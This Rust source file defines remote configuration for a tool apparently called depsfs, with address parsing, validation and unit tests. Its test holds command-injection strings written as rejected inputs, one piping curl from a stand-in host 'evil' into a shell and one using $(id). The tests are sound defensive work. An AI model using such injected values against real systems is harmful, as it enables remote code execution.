//! A remote as configuration declares it: in a repository's `depsfs.toml`, or in the user's own file.

use std::path::{Path, PathBuf};
use std::time::Duration;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use super::layout;
use super::limits::{self, RemoteLimits};

/// One `[[remote]]` of a `depsfs.toml`. It is used after the user has approved it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct RemoteTable {
    /// Its name; no other remote has it.
    pub name: String,
    /// Its address: `s3://bucket/prefix`, `file:///directory`, or, to read only, `https://host/path`.
    pub url: String,
    /// The region of an S3 bucket.
    pub region: Option<String>,
    /// The address of a server that speaks S3, if it is not Amazon's.
    pub endpoint: Option<String>,
    /// The lines whose entries are used, in this order [default: `main`].
    pub read: Option<Vec<String>>,
    /// A file of allowed signers (ssh-keygen(1)), relative to the top of the repository: entries that none of them has
    /// signed are not used.
    pub signers: Option<PathBuf>,
}

/// One `[remote.NAME]` of the user's own configuration: a remote of the user, or the user's part of a repository's.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "kebab-case", default)]
pub struct UserRemote {
    /// Its address; without one, the table completes the remote of the same name in a repository.
    pub url: Option<String>,
    /// The region of an S3 bucket.
    pub region: Option<String>,
    /// The address of a server that speaks S3, if it is not Amazon's.
    pub endpoint: Option<String>,
    /// The lines whose entries are used, in this order [default: `main`].
    pub read: Option<Vec<String>>,
    /// A file of allowed signers (ssh-keygen(1)), absolute or with `~/`.
    pub signers: Option<PathBuf>,
    /// The line that is pushed to [default: `main`].
    pub line: Option<String>,
    /// The SSH key that signs what is pushed, absolute or with `~/`.
    pub signing_key: Option<PathBuf>,
    /// The source of credentials [default: the environment, else `aws` with a profile].
    pub credentials: Option<Credentials>,
    /// Files that may be pushed though their names or contents are refused otherwise; patterns of .gitignore.
    pub allow: Vec<String>,
    /// Contents of files are brought after a create, while the views are used [default: before].
    pub lazy: Option<bool>,
    /// With `lazy`: when contents that no program has read are brought [default: `always`].
    pub complete: Option<Completion>,
    /// With `lazy`: how long a read waits while the remote does not answer, as `30s` or `2m` [default: 30s].
    #[serde(deserialize_with = "limits::wait")]
    #[schemars(with = "Option<String>")]
    pub wait: Option<Duration>,
    /// The most bits that come in a second, as `800k` or `100M` [default: no limit].
    #[serde(deserialize_with = "limits::bandwidth")]
    #[schemars(with = "Option<String>")]
    pub bandwidth: Option<u64>,
}

/// When the contents of a view that no program has read are brought.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Completion {
    /// In the background, right after the view is mounted.
    #[default]
    Always,
    /// When a program reads them, or with `depsfs fetch`.
    OnUse,
}

/// The source of a remote's credentials. They are never stored.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize, JsonSchema)]
#[serde(rename_all = "kebab-case")]
pub enum Credentials {
    /// The variables `AWS_ACCESS_KEY_ID`, `AWS_SECRET_ACCESS_KEY`, `AWS_SESSION_TOKEN`; a web identity; the instance.
    Env,
    /// `aws configure export-credentials`, which knows profiles and single sign-on.
    Aws,
    /// Requests are not signed.
    None,
}

/// A remote, joined from both.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct RemoteSpec {
    pub name: String,
    pub url: String,
    pub region: Option<String>,
    pub endpoint: Option<String>,
    pub read: Vec<String>,
    /// Absolute.
    pub signers: Option<PathBuf>,
    pub line: Option<String>,
    /// Absolute.
    pub signing_key: Option<PathBuf>,
    pub credentials: Option<Credentials>,
    pub allow: Vec<String>,
    /// Contents of files are brought while the views are used.
    pub lazy: bool,
    pub completion: Completion,
    pub limits: RemoteLimits,
    /// It stands in a file of the user's own: it needs no approval.
    pub is_users: bool,
}

impl RemoteTable {
    /// The fault of this table; `None` for a sound one.
    pub fn fault(&self) -> Option<String> {
        let is_inside = |p: &PathBuf| p.components().all(|c| matches!(c, std::path::Component::Normal(_)));
        if self.signers.as_ref().is_some_and(|p| !is_inside(p)) {
            return Some("signers does not lie below the top of the repository".into());
        }
        self.spec(Path::new("")).fault()
    }

    /// The remote that it declares, in a repository at `root`.
    pub fn spec(&self, root: &Path) -> RemoteSpec {
        RemoteSpec {
            name: self.name.clone(),
            url: self.url.clone(),
            region: self.region.clone(),
            endpoint: self.endpoint.clone(),
            read: self.read.clone().unwrap_or_else(main_line),
            signers: self.signers.as_ref().map(|at| root.join(at)),
            ..RemoteSpec::default()
        }
    }
}

fn main_line() -> Vec<String> {
    vec!["main".into()]
}

impl RemoteSpec {
    /// Adds the user's part. A user who names an address has declared the whole remote.
    pub fn completed(mut self, user: &UserRemote, home: Option<&Path>) -> RemoteSpec {
        if let Some(url) = &user.url {
            let name = self.name.clone();
            let read = main_line();
            self = RemoteSpec { name, url: url.clone(), read, is_users: true, ..RemoteSpec::default() };
        }
        let at_home = |path: &PathBuf| crate::sys::path::at_home(path, home);
        self.region = user.region.clone().or(self.region);
        self.endpoint = user.endpoint.clone().or(self.endpoint);
        self.read = user.read.clone().unwrap_or(self.read);
        self.signers = user.signers.as_ref().map(at_home).or(self.signers);
        self.line = user.line.clone();
        self.signing_key = user.signing_key.as_ref().map(at_home);
        self.credentials = user.credentials;
        self.allow.clone_from(&user.allow);
        self.lazy = user.lazy.unwrap_or(self.lazy);
        self.completion = user.complete.unwrap_or_default();
        self.limits = RemoteLimits { wait: user.wait, bandwidth: user.bandwidth };
        self
    }

    /// The fault of this remote; `None` for a sound one.
    pub fn fault(&self) -> Option<String> {
        let is_plain = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
        if self.name.is_empty() || !self.name.chars().all(is_plain) || self.name.starts_with(['.', '-']) {
            return Some("its name has to be made of letters, digits and . _ -".into());
        }
        if let Err(why) = Address::parse(&self.url) {
            return Some(why);
        }
        let lines = self.read.iter().chain(&self.line);
        let bad =
            lines.filter(|line| !layout::is_line(line)).map(|line| format!("{line:?} is no name of a line")).next();
        let is_http = |url: &String| url.starts_with("https://") || url.starts_with("http://");
        let endpoint = self.endpoint.as_ref().filter(|url| !is_http(url));
        bad.or(endpoint.map(|url| format!("the endpoint {url:?} is no http address")))
    }

    /// Its address for people and records: without secrets.
    pub fn shown_url(&self) -> String {
        crate::sys::url::public(&self.url)
    }

    /// One line that names all that a user has to agree to.
    pub fn words(&self) -> String {
        let mut words = vec![format!("remote {}: {}", self.name, self.url)];
        words.extend(self.endpoint.as_ref().map(|e| format!("endpoint {e}")));
        words.extend(self.region.as_ref().map(|r| format!("region {r}")));
        words.push(format!("reads {}", self.read.join(", ")));
        words.extend(self.signers.as_ref().map(|at| format!("signers {} ({})", at.to_string_lossy(), hash_of(at))));
        words.join(", ")
    }
}

/// The hash of a file of signers: another content is another approval.
fn hash_of(file: &Path) -> String {
    match crate::sys::path::read_if_there(file) {
        Ok(Some(bytes)) => blake3::hash(&bytes).to_hex()[..32].to_owned(),
        _ => "absent".into(),
    }
}

/// The address of a remote.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Address {
    Directory(PathBuf),
    S3 {
        bucket: String,
        prefix: String,
    },
    /// A web server, such as a CDN before a bucket: it is only read.
    Web {
        url: String,
    },
}

impl Address {
    /// Reads a URL.
    ///
    /// # Errors
    /// The URL is of no known kind, in words.
    pub fn parse(url: &str) -> Result<Address, String> {
        if url.chars().any(|c| c.is_control() || c.is_whitespace()) {
            return Err(format!("the address {url:?} holds a space"));
        }
        match url.split_once("://") {
            Some(("file", path)) if path.starts_with('/') => Ok(Address::Directory(path.into())),
            Some(("s3", rest)) => {
                let (bucket, prefix) = rest.split_once('/').unwrap_or((rest, ""));
                let is_plain = |c: char| c.is_ascii_alphanumeric() || ".-_".contains(c);
                let prefix = prefix.trim_end_matches('/');
                let is_sound = |s: &str| !s.is_empty() && s != "." && s != "..";
                if bucket.is_empty() || bucket.starts_with('-') || !bucket.chars().all(is_plain) {
                    return Err(format!("the address {url:?} names no bucket"));
                }
                if !prefix.chars().all(|c| is_plain(c) || c == '/') {
                    return Err(format!("the prefix in {url:?} has to be made of letters, digits and . _ - /"));
                }
                if !prefix.is_empty() && !prefix.split('/').all(is_sound) {
                    return Err(format!("the address {url:?} has an empty or relative segment"));
                }
                Ok(Address::S3 { bucket: bucket.into(), prefix: prefix.into() })
            }
            Some(("https" | "http", rest)) => {
                let is_plain = |c: char| c.is_ascii_alphanumeric() || "._~-:/".contains(c);
                if rest.starts_with(['/', ':', '-']) || rest.is_empty() || !rest.chars().all(is_plain) {
                    return Err(format!("the address {url:?} is not made of a host and a path alone"));
                }
                if rest.trim_end_matches('/').split('/').any(|s| s.is_empty() || s == "." || s == "..") {
                    return Err(format!("the address {url:?} has an empty or relative segment"));
                }
                Ok(Address::Web { url: url.trim_end_matches('/').into() })
            }
            _ => Err(format!(
                "the address {url:?} is none of s3://bucket/prefix, file:///directory and https://host/path"
            )),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_is_a_bucket_an_absolute_directory_or_a_web_server() {
        let s3 = |bucket: &str, prefix: &str| Ok(Address::S3 { bucket: bucket.into(), prefix: prefix.into() });
        assert_eq!(Address::parse("s3://b/p/q/"), s3("b", "p/q"));
        assert_eq!(Address::parse("s3://b/p_1/q-2.3"), s3("b", "p_1/q-2.3"));
        assert_eq!(Address::parse("s3://b"), s3("b", ""));
        assert_eq!(Address::parse("file:///srv/x"), Ok(Address::Directory("/srv/x".into())));
        let web = |url: &str| Ok(Address::Web { url: url.into() });
        assert_eq!(Address::parse("https://cdn.example.org/depsfs/"), web("https://cdn.example.org/depsfs"));
        assert_eq!(Address::parse("http://127.0.0.1:80"), web("http://127.0.0.1:80"));
        for bad in ["https://", "https:///x", "https://u:p@h/x", "https://h/x?sig=1", "https://h/../x", "https://h//x"]
        {
            assert!(Address::parse(bad).is_err(), "{bad}");
        }
        for bad in ["file://srv/x", "s3://", "s3://b/../c", "s3://b//c", "ftp://x", "/srv", "s3://u:p@b/x", "s3://b c"]
        {
            assert!(Address::parse(bad).is_err(), "{bad}");
        }
        for bad in ["s3://b/x';curl${IFS}evil|sh;'", "s3://b/\"x", "s3://b/$(id)", "s3://b/größe", "s3://-b/x"] {
            assert!(Address::parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn a_users_address_replaces_that_of_a_repository_and_needs_no_approval() {
        let table = RemoteTable { name: "team".into(), url: "s3://theirs/x".into(), ..RemoteTable::default() };
        let theirs = table.spec(Path::new("/repo"));
        let user = UserRemote { line: Some("pr-1".into()), ..UserRemote::default() };
        let joined = theirs.clone().completed(&user, None);
        assert_eq!(
            (joined.url.as_str(), joined.is_users, joined.line.as_deref()),
            ("s3://theirs/x", false, Some("pr-1"))
        );
        let user = UserRemote { url: Some("file:///mine".into()), ..UserRemote::default() };
        let joined = theirs.completed(&user, None);
        assert!(joined.is_users && joined.url == "file:///mine");
    }

    #[test]
    fn what_is_wrong_in_a_remote_is_told() {
        let good = RemoteTable { name: "team".into(), url: "s3://b/x".into(), ..RemoteTable::default() };
        assert_eq!(good.fault(), None);
        let bad = [
            RemoteTable { name: "a b".into(), ..good.clone() },
            RemoteTable { url: "x".into(), ..good.clone() },
            RemoteTable { read: Some(vec!["../main".into()]), ..good.clone() },
            RemoteTable { endpoint: Some("ftp://x".into()), ..good.clone() },
            RemoteTable { signers: Some("../x".into()), ..good.clone() },
            RemoteTable { signers: Some("/etc/x".into()), ..good.clone() },
        ];
        bad.iter().for_each(|table| assert!(table.fault().is_some(), "{table:?}"));
    }
}
